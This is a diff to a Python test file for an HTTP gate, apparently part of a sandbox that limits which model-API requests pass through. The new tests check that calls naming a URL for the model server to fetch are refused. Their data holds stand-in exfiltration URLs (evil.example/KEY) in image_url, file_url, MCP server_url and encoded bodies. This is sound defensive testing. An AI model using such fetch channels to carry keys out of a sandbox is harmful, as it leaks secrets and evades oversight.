@@ -8,7 +8,9 @@ reached the endpoint."""
 
 from __future__ import annotations
 
+import gzip
 import http.server
+import json
 import socket
 import threading
 import time
@@ -17,7 +19,7 @@ from pathlib import Path
 import pytest
 
 from zapcli.backends.cli_broker import Broker
-from zapcli.backends.cli_httpgate import allowed
+from zapcli.backends.cli_httpgate import allowed, media_url
 
 
 class Endpoint:
@@ -126,7 +128,7 @@ def test_model_calls_pass_on_a_kept_alive_connection_and_its_other_requests_do_n
     s.sendall(_post("/v1/messages", b'{"model":"m"}'))
     assert _answer(s).startswith(b"HTTP/1.1 200")
     chunked = (b"POST /v1/messages?beta=true HTTP/1.1\r\nHost: x\r\ntransfer-encoding: chunked\r\n\r\n"
-               b"5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n")
+               b"5\r\n{\"a\":\r\n2\r\n1}\r\n0\r\n\r\n")
     s.sendall(chunked)
     assert _answer(s).startswith(b"HTTP/1.1 200")
     s.sendall(_post("/api/pull", b'{"model":"evil.example/k/KEY"}'))
@@ -135,7 +137,7 @@ def test_model_calls_pass_on_a_kept_alive_connection_and_its_other_requests_do_n
     assert s.recv(10) == b""  # and the connection ends
     s.close()
     assert model.seen == [("POST", "/v1/messages", b'{"model":"m"}'),
-                          ("POST", "/v1/messages?beta=true", b"hello world")]
+                          ("POST", "/v1/messages?beta=true", b'{"a":1}')]
 
 
 @pytest.mark.parametrize("target", [
@@ -199,3 +201,51 @@ def test_what_a_path_may_be() -> None:
     assert allowed(b"/v1/chat/completions", "/v1") and allowed(b"/openai/v1/responses", "/openai/v1")
     assert not allowed(b"/api/pull", "") and not allowed(b"/slots/0?action=save", "")
     assert not allowed(b"/v1x/messages", "/v1") and not allowed(b"/", "")
+
+
+def test_a_call_naming_a_url_the_server_would_fetch_is_refused(gate) -> None:
+    """vLLM, llama.cpp's server and LiteLLM fetch an `image_url` themselves
+    (adversary round 10): a call naming one by URL never reaches the
+    endpoint; media inline (`data:`) does, and so does a body that is not
+    readable as a model call only when it is: not JSON, or encoded, is refused."""
+    model, paths = gate
+    image = {"model": "m", "messages": [{"role": "user", "content": [
+        {"type": "image_url", "image_url": {"url": "http://evil.example/KEY.png"}}]}]}
+    inline = {"model": "m", "messages": [{"role": "user", "content": [
+        {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}]}]}
+    for body, status in ((image, b"403"), (inline, b"200")):
+        s = _connect(paths["/v1"])
+        s.sendall(_post("/v1/chat/completions", json.dumps(body).encode()))
+        assert _answer(s).startswith(b"HTTP/1.1 " + status), body
+        s.close()
+    for request in (_post("/v1/chat/completions", b"model=m&url=http://evil.example/KEY"),
+                    _post("/v1/chat/completions", gzip.compress(json.dumps(image).encode())).replace(
+                        b"content-type", b"content-encoding: gzip\r\ncontent-type")):
+        s = _connect(paths["/v1"])
+        s.sendall(request)
+        assert _answer(s).startswith(b"HTTP/1.1 403"), request[:80]
+        s.close()
+    assert [json.loads(b) for _, _, b in model.seen] == [inline]
+
+
+def test_what_a_model_call_may_name() -> None:
+    url = "https://evil.example/KEY"
+    fetched = [
+        {"messages": [{"content": [{"type": "image_url", "image_url": {"url": url}}]}]},  # OpenAI chat
+        {"input": [{"content": [{"type": "input_image", "image_url": url}]}]},  # Responses API
+        {"input": [{"content": [{"type": "input_file", "file_url": url}]}]},
+        {"messages": [{"content": [{"type": "video_url", "video_url": {"url": url}}]}]},  # vLLM
+        {"messages": [{"content": [{"type": "image", "source": {"type": "url", "url": url}}]}]},  # Anthropic
+        {"contents": [{"parts": [{"fileData": {"fileUri": url, "mimeType": "image/png"}}]}]},  # Gemini
+        {"tools": [{"type": "mcp", "server_label": "x", "server_url": url}]},  # a remote MCP server
+    ]
+    for doc in fetched:
+        assert media_url(doc) == url, doc
+    kept = [
+        {"messages": [{"role": "user", "content": f"read {url} and say what it holds"}]},
+        {"messages": [{"content": [{"type": "web_search_result", "url": url, "title": "t"}]}]},
+        {"tools": [{"name": "fetch", "input_schema": {"properties": {"url": {"type": "string"}}}}]},
+        {"messages": [{"content": [{"type": "image_url", "image_url": {"url": "DATA:image/png;base64,AA"}}]}]},
+    ]
+    for doc in kept:
+        assert media_url(doc) is None, doc
